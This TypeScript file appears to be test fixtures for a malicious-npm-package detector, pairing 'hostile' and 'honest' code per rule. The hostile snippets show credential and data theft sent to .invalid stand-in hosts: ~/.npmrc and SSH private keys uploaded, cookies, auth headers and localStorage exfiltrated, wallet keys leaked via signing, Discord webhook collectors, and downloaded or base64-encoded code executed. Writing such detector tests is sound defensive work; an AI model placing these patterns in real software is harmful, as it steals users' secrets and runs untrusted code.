import type { Fixture, Technique } from './techniques.ts'

const main = (text: string, files: Readonly<Record<string, string>> = {}): Fixture => ({
  files: { 'index.js': text, ...files },
})
const esm = (text: string): Fixture => ({ manifest: { type: 'module' }, files: { 'index.js': text } })

const post = `const post = (o) => fetch('https://rpc.h.invalid', { method: 'POST', body: JSON.stringify(o) })`

/** What the sixth exam missed, in other words than its own. */
export const variants: readonly Technique[] = [
  {
    name: 'what a chain of promises gives is kept, then run',
    rule: 'code/runs-downloads',
    hostile: esm(`
      const text = await fetch('https://g.invalid/x').then((r) => r.text())
      if (text) await import('data:text/javascript,' + encodeURIComponent(text))`),
    honest: esm(`
      const version = await fetch('https://g.invalid/v.json').then((r) => r.json()).catch(() => ({}))
      setTimeout(() => console.log(version.message), version.delay)`),
  },
  {
    name: 'a promise is named, and its text run later',
    rule: 'code/runs-downloads',
    hostile: main(`
      const code = fetch('https://g.invalid/x').then((r) => r.json())
      code.then((json) => new Function(json.code)())`),
    honest: main(`
      const compile = (text) => new Function('d', 'return ' + JSON.stringify(text))
      const page = (url) => fetch(url).then((r) => r.text())
      exports.render = (url) => page(url).then((text) => compile(text))`),
  },
  {
    name: 'credentials pass through a promise',
    rule: 'code/sends-secrets',
    hostile: esm(`
      import { readFile } from 'node:fs/promises'
      import { homedir } from 'node:os'
      const lines = await readFile(homedir() + '/.npmrc', 'utf8').then((s) => s.split('\\n'))
      await fetch('https://h.invalid', { method: 'POST', body: lines.join() })`),
    honest: esm(`
      import { readFile } from 'node:fs/promises'
      const own = await readFile(new URL('./package.json', import.meta.url), 'utf8').then(JSON.parse)
      await fetch('https://h.invalid/latest?v=' + own.version)`),
  },
  {
    name: 'a listener stands between a request and what it carries',
    rule: 'code/skims',
    hostile: main(`
      const net = require('net')
      module.exports = (req, res, next) => {
        net.connect(80, 'h.invalid').on('error', () => {}).setNoDelay().end(req.headers.cookie)
        next()
      }`),
    honest: main(`
      const https = require('https')
      module.exports = (target) => (req, res) => {
        https.request(target, { method: req.method, headers: req.headers }).on('error', () => res.end()).end(req.body)
      }`),
  },
  {
    name: 'what is sent names another host than the one it is sent to',
    rule: 'code/skims',
    hostile: main(`
      const https = require('https')
      module.exports = (req, res, next) => {
        const out = https.request('https://h.invalid/x', { method: 'POST' }).once('error', () => {})
        out.end('https://localhost/?' + req.headers.authorization)
        next()
      }`),
    honest: main(`
      const https = require('https')
      exports.capture = (error) =>
        https.request('https://h.invalid/e', { method: 'POST' }).on('error', () => {}).end(JSON.stringify({ m: error.message }))`),
  },
  {
    name: 'the address of a webhook is put together',
    rule: 'code/collector',
    hostile: main(`
      const to = ['https://discord.com/api', 'webhooks', '1190000000000000000', 'ExampleTokenExampleToken'].join('/')
      exports.log = (text) => fetch(to, { method: 'POST', body: text })`),
    honest: main(`
      exports.notify = (id, token, text) =>
        fetch(['https://discord.com/api', 'webhooks', id, token].join('/'), { method: 'POST', body: text })`),
  },
  {
    name: 'the address of a webhook stands in options',
    rule: 'code/collector',
    hostile: main(`
      const key = 'ExampleTokenExampleToken'
      exports.log = (text) =>
        require('https').request({ hostname: 'discord.com', path: '/api/webhooks/1190000000000000000/' + key, method: 'POST' }).end(text)`),
    honest: main(`
      exports.call = (token, method) =>
        require('https').request({ hostname: 'api.telegram.org', path: '/bot' + token + '/' + method, method: 'POST' }).end()`),
  },
  {
    name: 'all that a page keeps, to a host that is called as the package is',
    rule: 'code/skims',
    hostile: {
      manifest: { name: 'quick-tabs' },
      files: {
        'index.js': `exports.init = () => {
          const all = {}
          for (const k in localStorage) all[k] = localStorage.getItem(k)
          const x = new XMLHttpRequest()
          x.open('POST', 'https://api.quick-tabs.invalid/')
          x.send(JSON.stringify(all))
        }`,
      },
    },
    honest: {
      manifest: { name: 'quick-tabs' },
      files: {
        'index.js': `
        const read = (name) => { for (const c of document.cookie.split(';')) { const [k, v] = c.trim().split('='); if (k === name) return v } }
        exports.ping = () => fetch('https://api.quick-tabs.invalid/?u=' + read('qt_uid') + '&s=' + localStorage.getItem('qt_session'))`,
      },
    },
  },
  {
    name: 'all that a page keeps, by number',
    rule: 'code/skims',
    hostile: esm(`
      export function sync() {
        const out = []
        let i = localStorage.length
        while (i--) { const k = localStorage.key(i); out.push(k + '=' + localStorage.getItem(k)) }
        navigator.sendBeacon('https://s.invalid/c', out.join('&'))
      }`),
    honest: esm(`
      export function clear(prefix) {
        for (let i = localStorage.length - 1; i >= 0; i--) { const k = localStorage.key(i); if (k.startsWith(prefix)) localStorage.removeItem(k) }
        return fetch('https://h.invalid/cleared', { method: 'POST' })
      }`),
  },
  {
    name: 'what lies encoded in another package is run once somebody calls',
    rule: 'code/runs-encoded',
    hostile: main(`
      const { icons } = require('ui-icons-data')
      exports.render = () => { const f = new Function('m', Buffer.from(icons.x, 'hex').toString()); return f(module) }`),
    honest: main(`
      const { workerSource } = require('pool-src')
      exports.start = () => new Worker(URL.createObjectURL(new Blob([atob(workerSource)], { type: 'text/javascript' })))`),
  },
  {
    name: 'code is put together from what two packages hold',
    rule: 'code/runs-encoded',
    hostile: esm(`
      import { x } from 'sib-one'
      import { y } from 'sib-two'
      const text = [x, y].reverse().join('')
      setTimeout(Buffer.from(text, 'base64').toString('utf8'), 10)`),
    honest: main(`
      const { wasm } = require('codec-data')
      exports.load = () => WebAssembly.compile(Buffer.from(wasm, 'base64'))`),
  },
  {
    name: 'texts of other packages meet in a template',
    rule: 'code/runs-encoded',
    hostile: main(`
      const a = require('@ui/part-a'), b = require('@ui/part-b')
      require('vm').runInNewContext(atob(\`\${a.text}\${b.text}\`), global)`),
    honest: main(`
      const { compile } = require('tpl'), lib = require('lib')
      exports.run = (text) => new Function('d', compile(text))
      exports.ping = () => fetch('https://h.invalid/' + lib.version + '/' + Buffer.from(lib.name, 'base64'))`),
  },
  {
    name: 'a signature is one-way, the key beside it is not',
    rule: 'code/sends-secrets',
    hostile: main(`
      const { secp256k1 } = require('@noble/curves/secp256k1')
      exports.send = (hash, privateKey) =>
        post({ s: secp256k1.sign(hash, privateKey), d: Buffer.from(privateKey).toString('base64') })
      ${post}`),
    honest: main(`
      const { secp256k1 } = require('@noble/curves/secp256k1')
      exports.send = (hash, privateKey) =>
        post({ s: secp256k1.sign(hash, privateKey).toCompactHex(), p: secp256k1.getPublicKey(privateKey) })
      ${post}`),
  },
  {
    name: 'a wallet signs, and tells its key when it is asked',
    rule: 'code/sends-secrets',
    hostile: main(`
      const { ethers } = require('ethers')
      exports.send = async (tx, privateKey) => {
        const wallet = new ethers.Wallet(privateKey)
        return post({ tx: await wallet.signTransaction(tx), k: wallet.privateKey })
      }
      ${post}`),
    honest: main(`
      const { ethers } = require('ethers')
      exports.send = async (tx, privateKey) => {
        const wallet = new ethers.Wallet(privateKey)
        return post({ tx: await wallet.signTransaction(tx), from: wallet.address })
      }
      ${post}`),
  },
  {
    name: 'what is signed stands in a token, the key does not',
    rule: 'code/sends-secrets',
    hostile: main(`
      const jwt = require('jsonwebtoken')
      exports.login = (privateKey) => post(jwt.sign({ k: privateKey }, 'x'))
      ${post}`),
    honest: main(`
      const jwt = require('jsonwebtoken')
      exports.login = (privateKey, iss) => post(jwt.sign({ iss }, privateKey, { algorithm: 'RS256' }))
      ${post}`),
  },
  {
    name: 'a function of the package that is only called sign',
    rule: 'code/sends-secrets',
    hostile: main(
      `
      const { sign } = require('./sign')
      exports.send = (m, privateKey) => post({ s: sign(m, privateKey) })
      ${post}`,
      { 'sign.js': `exports.sign = (m, k) => [m, k].join('.')` },
    ),
    honest: main(`
      const { ec: Curve } = require('elliptic')
      const curve = new Curve('secp256k1')
      exports.send = (hash, privateKey) => {
        const pair = curve.keyFromPrivate(privateKey, 'hex')
        return post({ r: pair.sign(hash).r.toString('hex'), p: pair.getPublic('hex') })
      }
      ${post}`),
  },
  {
    name: 'a key of SSH is put on a server, not logged in with',
    rule: 'code/sends-secrets',
    hostile: main(`
      const c = new (require('ssh2').Client)(), os = require('os')
      c.on('ready', () => c.sftp((e, s) => s.fastPut(os.homedir() + '/.ssh/id_rsa', '/in/k', () => {})))
      c.connect({ host: 'h.invalid', username: 'u', password: 'x' })`),
    honest: {
      manifest: { bin: 'cli.js' },
      files: {
        'cli.js': `require('./index').ship(require(require('path').resolve('ship.config.js')))`,
        'index.js': `
        const { Client } = require('ssh2'), fs = require('fs'), os = require('os'), path = require('path')
        exports.ship = ({ host, user = os.userInfo().username, key = os.homedir() + '/.ssh/id_rsa', dir }) => {
          const c = new Client()
          c.on('ready', () => c.sftp((e, s) => { for (const f of fs.readdirSync(dir)) s.fastPut(path.join(dir, f), '/srv/' + f, () => {}) }))
          c.connect({ host, username: user, privateKey: fs.readFileSync(key), passphrase: process.env.SSH_PASSPHRASE })
        }`,
      },
    },
  },
  {
    name: 'a key of SSH goes where the name of the user should stand',
    rule: 'code/sends-secrets',
    hostile: main(`
      const c = new (require('ssh2').Client)(), os = require('os'), fs = require('fs')
      c.connect({ host: 'h.invalid', username: fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8'), password: 'x' })`),
    honest: main(`
      const c = new (require('ssh2').Client)(), os = require('os'), fs = require('fs')
      exports.open = (ssh) => c.connect({ ...ssh, username: os.userInfo().username, privateKey: fs.readFileSync(os.homedir() + '/.ssh/id_ed25519') })`),
  },
  {
    name: 'the project is put on a server whose name is worked out',
    rule: 'code/sends-identity',
    hostile: main(`
      const c = new (require('ssh2').Client)(), fs = require('fs'), path = require('path'), here = process.cwd()
      c.on('ready', () => c.sftp((e, s) => { for (const f of fs.readdirSync(here)) s.fastPut(path.join(here, f), '/in/' + f, () => {}) }))
      c.connect({ host: atob(process.env.X), username: 'u', password: 'x' })`),
    honest: {
      manifest: { bin: 'cli.js' },
      files: {
        'cli.js': `require('./index').up({ from: process.argv[2], to: process.argv[3], ssh: { host: process.argv[4] } })`,
        'index.js': `
        const { Client } = require('ssh2'), fs = require('fs')
        exports.up = (opts) => {
          const c = new Client()
          c.on('ready', () => c.sftp((e, s) => { for (const f of fs.readdirSync(opts.from)) s.fastPut(opts.from + '/' + f, opts.to + '/' + f, () => {}) }))
          c.connect({ ...opts.ssh, agent: process.env.SSH_AUTH_SOCK })
        }`,
      },
    },
  },
]
